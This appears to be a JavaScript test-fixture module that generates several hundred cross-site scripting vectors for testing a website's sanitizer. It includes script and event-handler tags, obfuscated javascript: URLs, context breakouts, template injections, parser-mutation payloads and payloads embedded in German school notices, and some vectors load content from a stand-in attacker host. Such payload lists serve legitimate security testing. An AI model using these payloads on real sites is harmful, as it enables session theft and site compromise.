/* More than three hundred ways to write script where text is meant: the classics, what
   parsers change on the way (mutation), what closes a place that a page writes text to, and
   school texts with all of it inside. CALL becomes what tells that it ran. */
const call = "alert(document.domain)";
const canary = "//evil.example/kanarie";

const tags = ["a", "b", "body", "button", "details", "div", "form", "iframe", "img", "input", "marquee", "math", "object", "script", "select", "style", "svg", "table",
	"template", "textarea", "title", "video", "x-kreide"];
const events = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbeforeinput", "onscrollend", "onwheel", "oncontentvisibilityautostatechange"];

const classic = [
	`<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<ScRiPt >${call}</sCrIpT >`, `<script src=${canary}.js></script>`, `<script src="http:${canary}"></script>`,
	`<script type=module>${call}</script>`, `<script async>${call}</script>`, `<script/x>${call}</script>`, `<script\n>${call}</script\n>`, `<script\t>${call}</script>`,
	`<scr<script>ipt>${call}</scr</script>ipt>`, `<<script>${call}//<</script>`, `<script>${call}`, `<script>${call}<!--`, `<script><!--\n${call}\n--></script>`,
	`<script>eval(atob('YWxlcnQoMSk='))</script>`, `<script>window['al'+'ert'](1)</script>`, `<script>\u0061lert(1)</script>`, `<script>self[/al/.source+/ert/.source](1)</script>`,
	`<img src=x onerror=${call}>`, `<img src=x onerror="${call}">`, `<img src=x onerror='${call}'>`, `<img/src=x/onerror=${call}>`, `<img src=x:x onerror=${call} //`,
	`<img """><script>${call}</script>">`, `<IMG SRC=javascript:${call}>`, `<img src="javascript:${call}">`, `<img src=\`javascript:${call}\`>`, `<img srcset=x onerror=${call}>`,
	`<img src=x onerror=\u0022${call}\u0022>`, `<img src onerror=${call}>`, `<img src=x oNeRrOr=${call}>`, `<img src=x onerror\n=${call}>`, `<img src=x onerror\t=\t${call}>`,
	`<img src=x onerror=&#97;lert(1)>`, `<img src=x onerror=&#x61;lert(1)>`, `<img src=x onerror="&#0000097lert(1)">`, `<img src="http:${canary}.png">`, `<image src=x onerror=${call}>`,
	`<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg onload=${call}//`, `<svg><script>${call}</script></svg>`, `<svg><script href="http:${canary}.js"/></svg>`,
	`<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set onbegin=${call} attributename=x>`, `<svg><a xlink:href="javascript:${call}"><text y=20>Klick</text></a></svg>`,
	`<svg><animate xlink:href=#k attributeName=href values=javascript:${call} /><a id=k><text y=20>Klick</text></a>`, `<svg><foreignObject><iframe onload=${call}>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x">`, `<svg><image href="http:${canary}.svg">`,
	`<svg><style>@import "http:${canary}.css";</style></svg>`, `<svg><feImage xlink:href="http:${canary}.png"/></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler>`,
	`<body onload=${call}>`, `<body background="http:${canary}.png">`, `<body onpageshow=${call}>`, `<body onhashchange=${call}><a href=#x>Klick</a>`, `<frameset onload=${call}>`,
	`<iframe src=javascript:${call}>`, `<iframe srcdoc="<script>${call}</script>">`, `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;">`, `<iframe src="data:text/html,<script>${call}</script>">`,
	`<iframe src="http:${canary}">`, `<iframe onload=${call}>`, `<iframe src=//evil.example onload=${call}></iframe>`, `<frame src=javascript:${call}>`,
	`<embed src=javascript:${call}>`, `<embed src="data:text/html,<script>${call}</script>">`, `<object data=javascript:${call}>`, `<object data="data:text/html,<script>${call}</script>">`,
	`<object type=text/html data="http:${canary}">`, `<applet code="javascript:${call}">`, `<portal src=http:${canary}>`,
	`<a href="javascript:${call}">Klick</a>`, `<a href="JaVaScRiPt:${call}">Klick</a>`, `<a href="java\tscript:${call}">Klick</a>`, `<a href="java\nscript:${call}">Klick</a>`,
	`<a href="&#106;avascript:${call}">Klick</a>`, `<a href="&#x6A;avascript:${call}">Klick</a>`, `<a href="\x01javascript:${call}">Klick</a>`.replace("\x01", " "), `<a href="javascript&colon;${call}">Klick</a>`,
	`<a href="javascript&#58;${call}">Klick</a>`, `<a href="data:text/html,<script>${call}</script>">Klick</a>`, `<a href="vbscript:msgbox(1)">Klick</a>`, `<a href=javascript&lpar;1&rpar;>Klick</a>`,
	`<a href="javascript://%0a${call}">Klick</a>`, `<a href="javascript:%61lert(1)">Klick</a>`, `<a ping="http:${canary}" href=/>Klick</a>`, `<a target=_blank href=javascript:${call}>Klick</a>`,
	`<form action=javascript:${call}><input type=submit>`, `<form><button formaction=javascript:${call}>Klick</button>`, `<form action="http:${canary}"><input name=_csrf>`, `<isindex type=image src=1 onerror=${call}>`,
	`<input onfocus=${call} autofocus>`, `<input type=image src=x onerror=${call}>`, `<select onfocus=${call} autofocus>`, `<textarea onfocus=${call} autofocus>`, `<keygen onfocus=${call} autofocus>`,
	`<button autofocus onfocus=${call}>Klick</button>`, `<details open ontoggle=${call}>`, `<details ontoggle=${call} open><summary>x</summary>`, `<dialog open onclose=${call}>`, `<marquee onstart=${call}>`,
	`<video><source onerror=${call}></video>`, `<video src=x onerror=${call}></video>`, `<video poster="http:${canary}.png"></video>`, `<audio src=x onerror=${call}></audio>`, `<audio><track src=http:${canary}></audio>`,
	`<style>@import url(http:${canary}.css);</style>`, `<style>body{background:url(http:${canary}.png)}</style>`, `<style>*{behavior:url(x.htc)}</style>`, `<style onload=${call}></style>`,
	`<link rel=stylesheet href="http:${canary}.css">`, `<link rel=import href="http:${canary}">`, `<link rel=prefetch href="http:${canary}">`, `<link rel=preload as=image href="http:${canary}.png">`, `<link rel=dns-prefetch href="http:${canary}">`,
	`<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta http-equiv=refresh content="0;url=http:${canary}">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<meta http-equiv=set-cookie content="kr=x">`, `<meta charset=utf-7>`, `<base href="http:${canary}/">`, `<base target=_blank href=javascript:${call}//>`,
	`<div style="background:url(javascript:${call})">`, `<div style="background-image:url('http:${canary}.png')">x</div>`, `<div style="width:expression(${call})">`, `<p style="animation:x" onanimationstart=${call}>`,
	`<xss style="behavior:url(#x)" onclick=${call}>`, `<xml><x><![CDATA[<img src=x onerror=${call}>]]></x></xml>`, `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${call}</script></x>`,
	`<!--<img src=x onerror=${call}>-->`, `<!--[if IE]><script>${call}</script><![endif]-->`, `<![CDATA[<script>${call}</script>]]>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "http:${canary}">]><x>&y;</x>`, `<%00script>${call}</script>`.replace("%00", "\u200b"),
	`<comment><img src="</comment><img src=x onerror=${call}//">`, `<bgsound src=javascript:${call}>`, `<layer src=http:${canary}></layer>`, `<table background=javascript:${call}><td background=x>`,
	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:${call}">Klick</maction></math>`, `<math href="javascript:${call}">Klick</math>`, `<x contenteditable onblur=${call}>x</x>`, `<x tabindex=1 onfocus=${call}></x>`,
	`<template><script>${call}</script></template>`, `<template shadowrootmode=open><script>${call}</script></template>`, `<slot onslotchange=${call}>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

/* What closes the place where our pages write text. */
const breakers = ["\">", "'>", "\"/>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>", "</p></div></main>", "</td></tr></table>", "</a>", "</button></form>", "\\\">", "%22%3E", "&quot;&gt;", "\u2028\">", "`>"];
const breakouts = breakers.flatMap((b) => [`${b}<svg onload=${call}>`, `${b}<img src=x onerror=${call}>`]);
const attributes = ["\" onmouseover=CALL x=\"", "' onmouseover=CALL x='", "\" autofocus onfocus=CALL \"", "' autofocus onfocus='CALL", "\" style=animation-name:x onanimationstart=CALL \"", "x onerror=CALL", "javascript:CALL", "JAVASCRIPT:CALL",
	"data:text/html,<script>CALL</script>", "//evil.example/kanarie", "https://evil.example/kanarie", "\\\"};CALL;//", "';CALL;//", "\";CALL;//", "</script><script>CALL//", "${CALL}", "{{CALL}}", "{% raw CALL %}", "{{constructor.constructor('CALL')()}}",
	"<%= CALL %>", "#{CALL}", "[[${CALL}]]", "%3Cscript%3ECALL%3C/script%3E", "&lt;script&gt;CALL&lt;/script&gt;", "&#60;script&#62;CALL&#60;/script&#62;", "\\u003cscript\\u003eCALL", "+ADw-script+AD4-CALL+ADw-/script+AD4-", "＜script＞CALL＜/script＞", "‹script›CALL", "¼script¾CALL¼/script¾",
	"http://zoo.example/\"onmouseover=\"CALL", "http://zoo.example/'onmouseover='CALL", "http://zoo.example/<svg/onload=CALL>", "https://zoo.example/?a=\"><svg onload=CALL>", "javascript://zoo.example/%0aCALL", "https://a@evil.example/\" style=\"x", "mailto:x\"onclick=CALL", "- <img src=x onerror=CALL>", "**<svg onload=CALL>**", "[Klick](javascript:CALL)", "[Klick](https://zoo.example \"onload=CALL)", "![x](x\"onerror=\"CALL)"].map((t) => t.replaceAll("CALL", call));

/* What an HTML parser turns into something else when it reads it twice. */
const mutations = [
	`<svg></p><style><a id="</style><img src=1 onerror=${call}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
	`<math><mi><table><mi><mglyph><style><math><table id="</style><img src=x onerror=${call}>">`, `<noscript><style></noscript><img src=x onerror=${call}>`, `<svg><style>&lt;img src=x onerror=${call}&gt;</style>`, `<svg><title><style><a title="</style><img src=x onerror=${call}>">`,
	`<table><td><a href="javascript:${call}">x</a><table><script>${call}</script>`, `<select><style></select><script>${call}</script>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${call}>">`, `<xmp><p title="</xmp><svg/onload=${call}>">`,
	`<listing>&lt;img src=x onerror=${call}&gt;</listing>`, `<plaintext><img src=x onerror=${call}>`, `<p id="</p><img src=x onerror=${call}>">`, `<img alt="<x" title="/><img src=x onerror=${call}>">`, `<a title="&#x22;onmouseover=${call}">x</a>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style>`,
	`<svg><desc><style></desc><img src=x onerror=${call}>`, `<b><p><i></b><img src=x onerror=${call}></p></i>`, `<table><caption><svg><style></caption></table><img src=x onerror=${call}>`, `<svg><b><style><img src=x onerror=${call}></style>`, `<a\u00a0href=javascript:${call}>x</a>`,
	`<img src="\`\`onerror=${call}">`, `<div id="x"title='&lt;img src=x onerror=${call}&gt;'>`, `<frameset><noframes><style></noframes><img src=x onerror=${call}>`,
];

/* School texts as people write them, with something inside. */
const school = ["Liebe Eltern, am Freitag fällt der Unterricht aus: ", "Größe < 3 m und Länge > 5 m, siehe ", "Übung 4b: „Was bedeutet ‚Heimat‘?“ ", "Müller & Söhne, 7b | ", "Wenn a<b&&b>c, dann ", "Hausaufgabe: S. 12/13, Nr. 4 – ", "¡Hola! ¿Qué tal? ", "Ärger, Öl, Übermut, ß, ẞ, Łódź, Şükrü, Nguyễn: "];
const inside = [`<script>${call}</script>`, `<img src=x onerror=${call}>`, `"><svg onload=${call}>`, `<a href="javascript:${call}">hier</a>`, `<style>@import "http:${canary}.css"</style>`, `</textarea><script>${call}</script>`];

const generated = tags.map((t, i) => `<${t} ${events[i % events.length]}=${call} autofocus tabindex=0 src=x open>Klick</${t}>`)
	.concat(events.map((e) => `<div ${e}=${call} contenteditable tabindex=0>Klick</div>`), events.map((e) => `" ${e}="${call}" x="`));

export const vectors = [...new Set([...classic, ...breakouts, ...attributes, ...mutations, ...school.flatMap((s) => inside.map((x) => s + x)), ...generated])];
export const told = call;
